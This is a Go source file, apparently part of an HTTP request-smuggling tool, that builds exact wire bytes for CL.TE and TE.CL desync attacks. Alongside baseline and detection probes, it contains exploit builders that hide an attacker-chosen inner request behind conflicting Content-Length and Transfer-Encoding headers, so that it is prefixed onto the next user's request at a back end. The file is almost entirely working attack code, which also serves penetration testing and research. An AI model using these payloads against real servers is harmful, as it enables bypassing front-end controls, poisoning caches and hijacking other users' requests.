// Package payload builds the raw HTTP/1.1 requests used for desync probing
// and exploitation. Every builder is pure and returns exact wire bytes.
package payload

import (
	"fmt"
	"strings"
)

const (
	crlf = "\r\n"

	// LastChunk terminates a chunked body.
	LastChunk = "0" + crlf + crlf

	// DefaultUserAgent is sent when Request.UserAgent is empty.
	DefaultUserAgent = "Mozilla/5.0"

	formContentType = "application/x-www-form-urlencoded"
)

// Request describes the outer request shared by the normal request and
// both probes.
type Request struct {
	Method    string
	Host      string
	Path      string
	UserAgent string
}

// Smuggled is the inner request an exploit tries to prefix onto the next
// request a back end processes.
type Smuggled struct {
	Method string
	Path   string
}

// Chunk encodes data as a single chunk: hex length, data, CRLF.
func Chunk(data string) string {
	return fmt.Sprintf("%x%s%s%s", len(data), crlf, data, crlf)
}

// Normal is a well-formed form POST used for baselining and interleaving.
// The body carries one byte past the declared length, matching the probe
// framing so front ends see the same request shape.
func Normal(r Request) []byte {
	var b builder
	b.requestLine(r.Method, r.Path)
	b.header("Host", r.Host)
	b.header("User-Agent", userAgent(r))
	b.header("Content-Type", formContentType)
	b.header("Content-Length", "4")
	b.end("x=1" + crlf)
	return b.bytes()
}

// CLTEProbe declares a 4-byte Content-Length covering an unterminated
// chunk. A front end honoring Content-Length forwards it; a back end
// honoring chunked encoding then waits for the next chunk size line.
func CLTEProbe(r Request) []byte {
	var b builder
	b.requestLine(r.Method, r.Path)
	b.header("Host", r.Host)
	b.header("User-Agent", userAgent(r))
	b.header("Content-Length", "4")
	b.header("Transfer-Encoding", "chunked")
	b.end("1" + crlf + "Z" + crlf + "Q")
	return b.bytes()
}

// TECLProbe sends a complete zero chunk followed by one stray byte, with
// a Content-Length of 6 that a Content-Length back end waits to fill.
func TECLProbe(r Request) []byte {
	var b builder
	b.requestLine(r.Method, r.Path)
	b.header("Host", r.Host)
	b.header("User-Agent", userAgent(r))
	b.header("Content-Length", "6")
	b.header("Transfer-Encoding", "chunked")
	b.end(LastChunk + "X")
	return b.bytes()
}

// CLTEExploit wraps the smuggled request in a single chunk. Content-Length
// spans the whole chunked body, so the front end forwards all of it.
func CLTEExploit(host, endpoint string, s Smuggled) []byte {
	inner := s.Method + " " + s.Path + " HTTP/1.1" + crlf +
		"Host: " + host + crlf +
		"Content-Length: 10" + crlf +
		crlf +
		"x="
	body := Chunk(inner) + LastChunk

	var b builder
	b.requestLine("POST", endpoint)
	b.header("Host", host)
	b.header("User-Agent", DefaultUserAgent)
	b.header("Content-Length", fmt.Sprint(len(body)))
	b.header("Transfer-Encoding", "chunked")
	b.end(body)
	return b.bytes()
}

// TECLExploit sends the smuggled request as chunk data behind a
// Content-Length of 4, so a Content-Length back end stops after the chunk
// size line and treats the smuggled request as the next one on the wire.
func TECLExploit(host, endpoint string, s Smuggled) []byte {
	inner := s.Method + " " + s.Path + " HTTP/1.1" + crlf +
		"Content-Type: " + formContentType + crlf +
		"Content-Length: 15" + crlf +
		crlf +
		"x=1"

	var b builder
	b.requestLine("POST", endpoint)
	b.header("Host", host)
	b.header("Content-Type", formContentType)
	b.header("Content-Length", "4")
	b.header("Transfer-Encoding", "chunked")
	b.end(Chunk(inner) + LastChunk)
	return b.bytes()
}

func userAgent(r Request) string {
	if r.UserAgent != "" {
		return r.UserAgent
	}
	return DefaultUserAgent
}

type builder struct {
	sb strings.Builder
}

func (b *builder) requestLine(method, path string) {
	if path == "" {
		path = "/"
	}
	b.sb.WriteString(method + " " + path + " HTTP/1.1" + crlf)
}

func (b *builder) header(name, value string) {
	b.sb.WriteString(name + ": " + value + crlf)
}

func (b *builder) end(body string) {
	b.sb.WriteString(crlf)
	b.sb.WriteString(body)
}

func (b *builder) bytes() []byte { return []byte(b.sb.String()) }
